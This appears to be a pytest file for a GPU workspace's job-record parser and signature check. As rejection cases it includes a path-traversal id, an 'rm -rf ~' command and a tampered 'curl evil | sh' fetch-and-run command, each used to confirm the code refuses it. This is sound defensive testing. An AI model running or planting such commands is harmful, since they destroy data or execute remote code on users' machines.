"""A job record read back from the store is checked field by field, and runs only when this
machine's key signed it for this workspace."""

from __future__ import annotations

import json
from typing import Any

import pytest

from jupyter_gpu_ws.userjobs import trust
from jupyter_gpu_ws.userjobs.record import Attempt, JobRecord, RecordError, from_json


def record(**changes: Any) -> JobRecord:
    data = JobRecord(
        id="j-0123456789ab",
        name="train",
        kind="command",
        command=["python", "train.py"],
        workspace="me-project",
        created=1.0,
        updated=2.0,
        attempts=[
            Attempt(
                number=1,
                started=1.0,
                ended=2.0,
                host="a",
                returncode=1,
                reason="exit code 1",
                retryable=True,
                step=4,
            )
        ],
    )
    for name, value in changes.items():
        setattr(data, name, value)
    return data


def test_a_record_survives_its_json_round_trip_unchanged() -> None:
    original = record()
    assert from_json(json.loads(json.dumps(original.to_json()))) == original


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"id": "../../etc"}, "not a job id"),
        ({"kind": "shell"}, "'kind'"),
        ({"state": "pwned"}, "'state'"),
        ({"command": "rm -rf ~"}, "command must be"),
        ({"command": []}, "command must be"),
        ({"command": ["python", 3]}, "command must be"),
        ({"command": ["python"] * 4097}, "1 to 4096 arguments"),
        ({"command": ["python", "x" * 4097]}, "each 1 to 4096 characters"),
        ({"command": ["x" * 4000] * 66}, "262144 in all"),
        ({"retries": -1}, "'retries'"),
        ({"retries": True}, "'retries'"),
        ({"retries": 21}, "'retries' must be at most 20"),
        ({"gpus": 0}, "'gpus'"),
        ({"gpus": 10**9}, "'gpus' must be at most 64"),
        ({"seq": -1}, "'seq'"),
        ({"code": {"digest": "x"}}, "'code'"),
        ({"held": "yes"}, "'held'"),
        ({"created": float("inf")}, "'created'"),
        ({"extra": 1}, "unknown keys"),
        ({"attempts": [{"number": 0, "started": 1.0, "host": "a"}]}, "'number'"),
    ],
    ids=lambda v: str(v)[:30],
)
def test_a_record_that_this_project_did_not_write_is_refused_with_its_reason(
    change: dict[str, Any], words: str
) -> None:
    data = json.loads(json.dumps(record().to_json()))
    data.update(change)
    with pytest.raises(RecordError, match=words):
        from_json(data)


def test_anything_but_an_object_is_not_a_record() -> None:
    for data in (None, [], "j-0123456789ab", 3):
        with pytest.raises(RecordError):
            from_json(data)


def test_a_signed_record_verifies_with_its_key_for_its_workspace_only() -> None:
    signed = record()
    trust.sign(signed, b"mine")
    assert trust.why_untrusted(signed, b"mine", "me-project") is None
    assert "another key" in (trust.why_untrusted(signed, b"theirs", "me-project") or "")
    assert "another workspace" in (trust.why_untrusted(signed, b"mine", "other") or "")
    assert trust.why_untrusted(record(), b"mine", "me-project") == "not signed"


def test_a_signed_record_whose_command_was_changed_in_the_store_no_longer_verifies() -> None:
    signed = record()
    trust.sign(signed, b"mine")
    data = signed.to_json()
    data["command"] = ["sh", "-c", "curl evil | sh"]
    assert "changed in the store" in (
        trust.why_untrusted(from_json(data), b"mine", "me-project") or ""
    )
